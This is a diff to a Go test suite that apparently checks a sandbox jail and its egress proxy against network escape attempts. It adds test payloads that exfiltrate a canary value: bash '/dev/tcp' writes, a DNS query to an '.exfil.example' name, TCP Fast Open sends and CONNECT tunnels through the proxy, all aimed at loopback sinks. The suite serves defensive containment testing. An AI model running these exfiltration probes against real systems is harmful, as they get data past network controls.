@@ -1,6 +1,7 @@
 package escape
 
 import (
+	"context"
 	"errors"
 	"fmt"
 	"os"
@@ -16,7 +17,9 @@ import (
 
 	"golang.org/x/sys/unix"
 
+	"brig/egress"
 	"brig/jail"
+	"brig/supervisor"
 )
 
 // escCase is one hostile action with its control.
@@ -882,6 +885,27 @@ try:
     s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)
     s.sendto(q,("127.0.0.1",int(sys.argv[1]))); r=s.recv(512); print("ANSWER", ".".join(str(b) for b in r[-4:]))
 except Exception as e: print("ERR",type(e).__name__,e)`
+	// A blocking socket (a timeout would make it non-blocking, and a first
+	// Fast Open without a cookie then sends no data).
+	pyTFO = `import socket,struct,sys
+try:
+    s=socket.socket(socket.AF_INET,socket.SOCK_STREAM); s.setsockopt(socket.SOL_SOCKET,socket.SO_SNDTIMEO,struct.pack("ll",2,0))
+    s.sendto(sys.argv[2].encode(),socket.MSG_FASTOPEN,("127.0.0.1",int(sys.argv[1]))); s.close(); print("SENT")
+except Exception as e: print("ERR",type(e).__name__,e)`
+	// pyProxy asks the call's egress proxy (HTTP_PROXY) for a CONNECT
+	// tunnel to the sink and, when it is granted, sends the payload.
+	pyProxy = `import os,socket,sys,base64,urllib.parse
+try:
+    u=urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
+    s=socket.create_connection((u.hostname,u.port),timeout=10)
+    auth=""
+    if u.password: auth="Proxy-Authorization: Basic "+base64.b64encode((u.username+":"+u.password).encode()).decode()+"\r\n"
+    s.sendall(("CONNECT 127.0.0.1:"+sys.argv[1]+" HTTP/1.1\r\nHost: x\r\n"+auth+"\r\n").encode())
+    first=s.recv(4096).decode(errors="replace").split("\r\n")[0]
+    if first.split(" ")[1:2]==["200"]: s.sendall(sys.argv[2].encode()); print("SENT")
+    else: print("REFUSED",first)
+    s.close()
+except Exception as e: print("ERR",type(e).__name__,e)`
 	pyUnix = `import socket,sys
 a=sys.argv[1]
 if a.startswith("@"): a="\0"+a[1:]
@@ -939,46 +963,59 @@ func networkCases() []escCase {
 		p := filepath.Join(e.ws, "src/app.sock")
 		return unixSink(t, p), p
 	}
+	// A call granted network has the egress proxy and nothing else: every
+	// direct way out is an attack with and without the grant (the
+	// control runs outside the jail).
 	net := func(e *env) opt { return withNetwork() }
 	unixOK := func(e *env) opt { return withUnixSockets() }
+	dnsQuery := func(e *env) string { return "q" + e.canary[len(e.canary)-8:] + ".exfil.example" }
 	return []escCase{
-		reach("tcp to a host loopback sink", pyTCP, tcp, []func(*env) opt{net}),
+		reach("tcp to a host loopback sink", pyTCP, tcp, nil),
+		reach("tcp to a host loopback sink, network granted", pyTCP, tcp, nil, net),
 		{family: "network", name: "tcp via bash /dev/tcp", passes: netPasses,
 			control: func(t *testing.T, e *env) {
 				s := tcpSink(t)
-				e.argv([]string{"bash", "-c", fmt.Sprintf(`echo %s > /dev/tcp/127.0.0.1/%d`, payload(e), s.port)}, withNetwork())
+				e.outside("bash", "-c", fmt.Sprintf(`echo %s > /dev/tcp/127.0.0.1/%d`, payload(e), s.port))
 				if !s.contains(t, payload(e)) {
-					controlFail(t, "bash /dev/tcp with the network granted did not reach the sink")
+					controlFail(t, "bash /dev/tcp outside the jail did not reach the sink")
 				}
 			},
 			attack: func(t *testing.T, e *env) {
 				s := tcpSink(t)
-				e.argv([]string{"bash", "-c", fmt.Sprintf(`echo %s > /dev/tcp/127.0.0.1/%d; echo %s > /dev/tcp/localhost/%d`, payload(e), s.port, payload(e), s.port)})
+				script := fmt.Sprintf(`echo %s > /dev/tcp/127.0.0.1/%d; echo %s > /dev/tcp/localhost/%d`, payload(e), s.port, payload(e), s.port)
+				e.argv([]string{"bash", "-c", script})
+				e.argv([]string{"bash", "-c", script}, withNetwork())
 				if !s.quiet() {
 					b, n := s.got()
 					escaped(t, "the TCP sink received %d connection(s) and %q", n, b)
 				}
 			}},
+		reach("tcp fast open to a host loopback sink, network granted", pyTFO, tcp, nil, net),
 		reach("mptcp to a host loopback sink", pyMPTCP, tcp, nil),
-		reach("udp to a host loopback sink", pyUDP, udp, []func(*env) opt{net}),
+		reach("mptcp to a host loopback sink, network granted", pyMPTCP, tcp, nil, net),
+		reach("udp to a host loopback sink", pyUDP, udp, nil),
+		reach("udp to a host loopback sink, network granted", pyUDP, udp, nil, net),
 		{family: "network", name: "dns query to a loopback resolver", passes: netPasses,
 			control: func(t *testing.T, e *env) {
 				s := udpSink(t, true)
-				res := e.argv([]string{"python3", "-c", pyDNS, strconv.Itoa(s.port), "q" + e.canary[len(e.canary)-8:] + ".exfil.example"}, withNetwork())
-				e.wantIn(res, "ANSWER 10.66.77.88", "the DNS answer with the network granted")
-				if !s.contains(t, "exfil") {
-					controlFail(t, "the resolver sink saw no query")
+				out, _ := e.outside("python3", "-c", pyDNS, strconv.Itoa(s.port), dnsQuery(e))
+				if !strings.Contains(out, "ANSWER 10.66.77.88") || !s.contains(t, "exfil") {
+					controlFail(t, "a DNS query to the resolver sink from outside the jail got no answer (%q)", out)
 				}
 			},
 			attack: func(t *testing.T, e *env) {
 				s := udpSink(t, true)
-				res := e.argv([]string{"python3", "-c", pyDNS, strconv.Itoa(s.port), "q" + e.canary[len(e.canary)-8:] + ".exfil.example"})
-				e.wantNotIn(res, "10.66.77.88", "a DNS answer from the host resolver sink")
+				for _, opts := range [][]opt{nil, {withNetwork()}} {
+					res := e.argv([]string{"python3", "-c", pyDNS, strconv.Itoa(s.port), dnsQuery(e)}, opts...)
+					e.wantNotIn(res, "10.66.77.88", "a DNS answer from the host resolver sink")
+				}
 				if !s.quiet() {
 					b, _ := s.got()
 					escaped(t, "the resolver sink received a query %q", b)
 				}
 			}},
+		proxyCase("through the proxy to a host no rule allows", payload, egress.Verdict{Reason: "no rule allows this host"}),
+		proxyCase("through the proxy to loopback, allowed by a rule that does not name it", payload, egress.Verdict{Allow: true, Rule: "Net(domain:*) (test)"}),
 		{family: "network", name: "raw socket", passes: netPasses, probe: true,
 			control: func(t *testing.T, e *env) {
 				out, _ := e.outside("unshare", "-rn", probeBin, "raw", e.canary)
@@ -1009,6 +1046,42 @@ func networkCases() []escCase {
 		reach("abstract unix socket outside with unix sockets granted", pyUnix, abstract, nil, unixOK),
 		reach("pathname unix socket outside the workspace", pyUnix, outsideSock, []func(*env) opt{unixOK}),
 		reach("pathname unix socket inside the workspace", pyUnix, insideSock, []func(*env) opt{unixOK}),
+	}
+}
+
+// proxyCase asks the egress proxy for a tunnel to a host loopback sink
+// under the decision attack; the control asks under a rule naming
+// 127.0.0.1, and the sink receives the payload.
+func proxyCase(name string, payload func(*env) string, attack egress.Verdict) escCase {
+	decide := func(v egress.Verdict) opt {
+		return withIO(supervisor.IO{Net: egress.DeciderFunc(func(context.Context, egress.Request) egress.Verdict { return v })})
+	}
+	run := func(e *env, s *sink, v egress.Verdict) jail.Result {
+		return e.argv([]string{"python3", "-c", pyProxy, strconv.Itoa(s.port), payload(e)}, withNetwork(), decide(v))
+	}
+	return escCase{family: "network", name: name, passes: netPasses,
+		control: func(t *testing.T, e *env) {
+			s := tcpSink(t)
+			res := run(e, s, egress.Verdict{Allow: true, Named: true, Rule: "Net(domain:127.0.0.1) (test)"})
+			if !s.contains(t, payload(e)) {
+				controlFail(t, "a tunnel the rule allows did not reach the sink: %s", res.Stdout)
+			}
+			if len(res.Connections) != 1 || res.Connections[0].Refused != "" || res.Connections[0].Up == 0 {
+				controlFail(t, "the allowed connection was not recorded with its bytes: %+v", res.Connections)
+			}
+		},
+		attack: func(t *testing.T, e *env) {
+			s := tcpSink(t)
+			res := run(e, s, attack)
+			e.wantIn(res, "REFUSED", "the proxy's refusal")
+			if !s.quiet() {
+				b, n := s.got()
+				escaped(t, "the sink received %d connection(s) and %q through the proxy", n, b)
+			}
+			if len(res.Connections) != 1 || res.Connections[0].Refused == "" {
+				t.Errorf("the refused connection was not recorded as refused: %+v", res.Connections)
+			}
+		},
 	}
 }
 
